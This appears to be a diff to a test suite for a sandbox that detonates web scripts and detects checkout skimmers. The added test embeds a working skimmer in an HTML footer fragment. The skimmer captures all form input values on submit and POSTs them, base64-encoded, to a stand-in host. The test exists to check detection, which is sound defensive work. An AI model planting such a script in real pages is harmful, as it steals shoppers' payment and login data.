@@ -44,6 +44,9 @@ async def test_gated_skimmers_are_caught(detonator: Detonator, name: str) -> Non
     (found, *_) = exfiltration(result)
     assert found.script == "s1" and found.severity is Severity.CRITICAL
     assert "detonation" in found.tags and found.evidence["quarantined"] is True
+    page = next(p for p in result.pages if p.template == found.evidence["detonation"]["template"])
+    assert any(g.startswith("clock: advanced by 15 min") for g in page.gates), page.gates
+    assert any(g.startswith("URL: ") for g in page.gates)
 
 
 async def test_the_url_gate_is_real(detonator: Detonator) -> None:
@@ -99,3 +102,18 @@ async def test_a_file_that_hangs_its_page_is_an_error_not_clean(detonator: Deton
     result = await detonator.detonate("busy.js", "while (true) {}",
                                       templates=["custom-autocomplete"])
     assert result.verdict is Verdict.ERROR and result.error
+
+
+async def test_an_html_fragment_runs_inside_a_checkout(detonator: Detonator) -> None:
+    """A compromised template part (no form of its own) is put into a checkout page; its
+    inline code is the file's."""
+    fragment = """<div class="footer">&copy; shop</div><script>
+      document.addEventListener('submit', function () {
+        var v = [].map.call(document.querySelectorAll('input'), function (i) {
+          return i.name + '=' + i.value; }).join('&');
+        fetch('https://footer-cdn.test/f', {method: 'POST', mode: 'no-cors', body: btoa(v)});
+      }, true);</script>"""
+    result = await detonator.detonate("footer.html", fragment, html=True,
+                                      templates=["woocommerce"])
+    (found,) = exfiltration(result)
+    assert found.script == "s1" and result.verdict is Verdict.MALICIOUS
